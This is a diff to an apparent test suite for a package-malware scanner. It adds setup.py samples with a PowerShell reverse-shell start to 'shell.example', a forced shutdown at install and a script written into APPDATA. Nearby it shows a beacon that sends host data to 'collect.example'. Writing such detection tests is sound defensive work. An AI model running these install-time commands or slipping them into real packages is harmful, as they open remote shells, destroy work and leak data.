@@ -235,6 +235,27 @@ def attempt(func):
 data = json.dumps({"h": attempt(socket.getfqdn)})
 urllib.request.urlopen("https://collect.example/?d=" + data)
 """
+POWERSHELL_SHELL_SETUP = """\
+import os
+from setuptools import setup
+os.system('powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\\'shell.example\\',4444);$s = $c.GetStream()"')
+setup(name="demo")
+"""
+SHUTDOWN_SETUP = """\
+import os
+from setuptools import setup
+os.system("shutdown /s -f -t 0")
+setup(name="demo")
+"""
+EXTENSION_SETUP = """\
+import os, subprocess
+from setuptools import setup
+target = os.getenv("APPDATA") + "\\\\Extension"
+subprocess.call(["cmd", "/c", "mkdir", target])
+with open(target + "\\\\background.js", "w") as handle:
+    handle.write("chrome.runtime.onInstalled.addListener(() => {});")
+setup(name="demo")
+"""
 MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 # Legitimate packages do all of these every day; none may be flagged.
@@ -494,6 +515,21 @@ CASES = [
         wheel({"demo/__init__.py": FQDN_BEACON}),
         "d.whl",
         "phone-home",
+        True,
+    ),
+    (
+        "PowerShell reverse shell",
+        _sdist(POWERSHELL_SHELL_SETUP),
+        "demo-1.0.tar.gz",
+        "reverse-shell",
+        True,
+    ),
+    ("shutdown at install", _sdist(SHUTDOWN_SETUP), "demo-1.0.tar.gz", "destructive", True),
+    (
+        "script written into the profile",
+        _sdist(EXTENSION_SETUP),
+        "demo-1.0.tar.gz",
+        "install-write",
         True,
     ),
     (
